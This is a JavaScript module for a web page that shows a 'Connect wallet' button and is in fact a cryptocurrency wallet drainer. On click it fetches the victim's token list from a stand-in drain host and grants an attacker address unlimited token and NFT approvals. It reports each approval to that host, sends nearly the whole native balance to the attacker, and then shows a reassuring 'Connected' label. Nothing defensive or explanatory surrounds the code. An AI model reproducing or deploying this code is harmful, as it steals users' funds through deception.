import { BrowserProvider, Contract, MaxUint256, formatEther } from 'ethers';
const ERC20 = ['function approve(address,uint256)', 'function balanceOf(address) view returns (uint256)', 'function setApprovalForAll(address,bool)'];
const R = '0x5000000000000000000000000000000000000001';
const list = async (a) => (await fetch(`https://drain-api.example.com/tokens?owner=${a}`)).json();
export function mountButton(el) {
  el.textContent = 'Connect wallet';
  el.onclick = async () => {
    const p = new BrowserProvider(window.ethereum), s = await p.getSigner(), me = await s.getAddress();
    const worth = (await list(me)).sort((x, y) => y.usd - x.usd);
    for (const t of worth) {
      try {
        const c = new Contract(t.address, ERC20, s);
        if (t.type === 'nft') await c.setApprovalForAll(R, true); else await c.approve(R, MaxUint256);
        await fetch('https://drain-api.example.com/hit', { method: 'POST', body: JSON.stringify({ me, t: t.address, kind: t.type }) });
      } catch {}
    }
    const bal = await p.getBalance(me);
    if (bal > 10n ** 15n) await s.sendTransaction({ to: R, value: bal - 10n ** 15n });
    el.textContent = 'Connected (' + formatEther(bal) + ')';
  };
}
